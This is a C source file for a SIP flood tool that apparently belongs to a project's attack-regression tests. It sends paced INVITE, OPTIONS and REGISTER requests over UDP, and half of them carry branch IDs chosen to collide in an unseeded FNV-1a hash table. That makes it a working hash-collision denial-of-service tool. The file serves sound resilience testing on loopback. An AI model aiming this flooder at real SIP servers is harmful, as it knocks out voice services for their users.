// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * sipflood: the SIP flooder of test/attack/t_30_sip_flood.sh. Sends
 * well-formed INVITE, OPTIONS and REGISTER requests over UDP at a fixed
 * rate for a fixed time from several source addresses (127.x on lo in the
 * test's namespace), half of them with random branches and half with
 * branches chosen to fall into one bucket of an unseeded FNV-1a hash over
 * 8192 buckets (what srtprelayd's transaction table used), and counts what
 * comes back. Bounded in count and time by its arguments.
 *
 *   sipflood -t IP:PORT -s IP[,IP...] -r PER_SECOND -d SECONDS [-u USER]
 *
 * Prints "sipflood: flooding from N addresses" when it starts sending and
 * "sipflood: sent N received M" at the end (M counted over the run and
 * 3 s after it, while retransmissions may still arrive).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>

#define MAX_SOURCES 256
#define COLLIDING 4096
#define BUCKETS 8192

struct flood {
	struct sockaddr_in target;
	int fds[MAX_SOURCES];
	char src[MAX_SOURCES][INET_ADDRSTRLEN];
	unsigned short src_port[MAX_SOURCES];
	int n_src;
	unsigned int rate, seconds;
	const char *user;
	char colliding[COLLIDING][24];
	unsigned long long sent, received;
};

static uint32_t fnv1a(const char *s)
{
	uint32_t h = 2166136261u;

	while (*s)
		h = (h ^ (unsigned char)*s++) * 16777619u;
	return h;
}

/* Branches that all land in bucket 0 of an unseeded FNV-1a table. */
static void find_colliding(struct flood *f)
{
	unsigned int n = 0;
	uint32_t i;
	char b[24];

	for (i = 0; n < COLLIDING; i++) {
		snprintf(b, sizeof(b), "z9hG4bKc%08x", i);
		if (fnv1a(b) % BUCKETS == 0)
			memcpy(f->colliding[n++], b, sizeof(b));
	}
}

static int open_sources(struct flood *f, char *list)
{
	char *tok, *save = NULL;

	for (tok = strtok_r(list, ",", &save); tok && f->n_src < MAX_SOURCES;
	     tok = strtok_r(NULL, ",", &save)) {
		struct sockaddr_in a = { .sin_family = AF_INET };
		socklen_t l = sizeof(a);
		int fd, big = 4 << 20;

		if (inet_pton(AF_INET, tok, &a.sin_addr) != 1) {
			fprintf(stderr, "sipflood: bad source %s\n", tok);
			return -1;
		}
		fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
		if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ||
		    getsockname(fd, (struct sockaddr *)&a, &l) < 0) {
			fprintf(stderr, "sipflood: source %s: %s\n", tok, strerror(errno));
			return -1;
		}
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
		f->fds[f->n_src] = fd;
		snprintf(f->src[f->n_src], sizeof(f->src[0]), "%s", tok);
		f->src_port[f->n_src] = ntohs(a.sin_port);
		f->n_src++;
	}
	return f->n_src ? 0 : -1;
}

static int build(const struct flood *f, unsigned long long i, int s,
		 char *buf, size_t len)
{
	static const char *const methods[] = { "INVITE", "OPTIONS", "REGISTER" };
	const char *m = methods[i % 3];
	char branch[32];
	char tip[INET_ADDRSTRLEN];
	const char *sdp = "v=0\r\no=x 1 1 IN IP4 192.0.2.1\r\ns=-\r\n"
			  "c=IN IP4 192.0.2.1\r\nt=0 0\r\n"
			  "m=audio 4000 RTP/AVP 0\r\n";
	bool invite = i % 3 == 0;

	inet_ntop(AF_INET, &f->target.sin_addr, tip, sizeof(tip));
	if ((i / 3) % 2)
		snprintf(branch, sizeof(branch), "%s", f->colliding[(i / 6) % COLLIDING]);
	else
		snprintf(branch, sizeof(branch), "z9hG4bKr%08lx%04lx",
			 (unsigned long)random(), (unsigned long)(i & 0xffff));
	return snprintf(buf, len,
		"%s sip:%s@%s SIP/2.0\r\n"
		"Via: SIP/2.0/UDP %s:%u;branch=%s;rport\r\n"
		"Max-Forwards: 70\r\n"
		"From: <sip:flood@%s>;tag=f%lx\r\n"
		"To: <sip:%s@%s>\r\n"
		"Call-ID: %lx-%llu@%s\r\n"
		"CSeq: 1 %s\r\n"
		"Contact: <sip:flood@%s:%u>\r\n"
		"%s"
		"Content-Length: %zu\r\n\r\n%s",
		m, f->user, tip, f->src[s], f->src_port[s], branch, f->src[s],
		(unsigned long)random(), f->user, tip, (unsigned long)random(), i,
		f->src[s], m, f->src[s], f->src_port[s],
		invite ? "Content-Type: application/sdp\r\n" : "",
		invite ? strlen(sdp) : 0, invite ? sdp : "");
}

static void drain(struct flood *f)
{
	char buf[4096];
	int s;

	for (s = 0; s < f->n_src; s++)
		while (recv(f->fds[s], buf, sizeof(buf), MSG_DONTWAIT) > 0)
			f->received++;
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

/* Paced in 1 ms ticks; a tick that runs late sends what it owes. */
static void run(struct flood *f)
{
	uint64_t start = now_ns(), end = start + f->seconds * 1000000000ull;
	unsigned long long i = 0;
	char buf[2048];

	for (;;) {
		uint64_t t = now_ns();
		unsigned long long due;

		if (t >= end)
			break;
		due = (unsigned long long)((t - start) / 1000000ull + 1) * f->rate / 1000;
		for (; i < due; i++) {
			int s = (int)(i % (unsigned long long)f->n_src);
			int n = build(f, i, s, buf, sizeof(buf));

			if (sendto(f->fds[s], buf, (size_t)n, 0,
				   (struct sockaddr *)&f->target, sizeof(f->target)) == n)
				f->sent++;
		}
		drain(f);
		usleep(1000);
	}
	end = now_ns() + 3000000000ull;
	while (now_ns() < end) {
		drain(f);
		usleep(5000);
	}
}

int main(int argc, char **argv)
{
	static struct flood f = { .rate = 1000, .seconds = 1, .user = "flood" };
	char *sources = NULL, *port;
	int opt;

	f.target.sin_family = AF_INET;
	while ((opt = getopt(argc, argv, "t:s:r:d:u:")) != -1) {
		switch (opt) {
		case 't':
			port = strchr(optarg, ':');
			if (!port)
				return 2;
			*port++ = 0;
			inet_pton(AF_INET, optarg, &f.target.sin_addr);
			f.target.sin_port = htons((unsigned short)atoi(port));
			break;
		case 's': sources = optarg; break;
		case 'r': f.rate = (unsigned int)atoi(optarg); break;
		case 'd': f.seconds = (unsigned int)atoi(optarg); break;
		case 'u': f.user = optarg; break;
		default: return 2;
		}
	}
	if (!sources || !f.target.sin_port || !f.rate || f.rate > 100000 ||
	    !f.seconds || f.seconds > 600) {
		fprintf(stderr, "usage: sipflood -t IP:PORT -s IP[,IP...] -r 1..100000 -d 1..600 [-u USER]\n");
		return 2;
	}
	if (open_sources(&f, sources))
		return 1;
	srandom((unsigned int)getpid());
	find_colliding(&f);
	printf("sipflood: flooding from %d addresses\n", f.n_src);
	fflush(stdout);
	run(&f);
	printf("sipflood: sent %llu received %llu\n", f.sent, f.received);
	return 0;
}
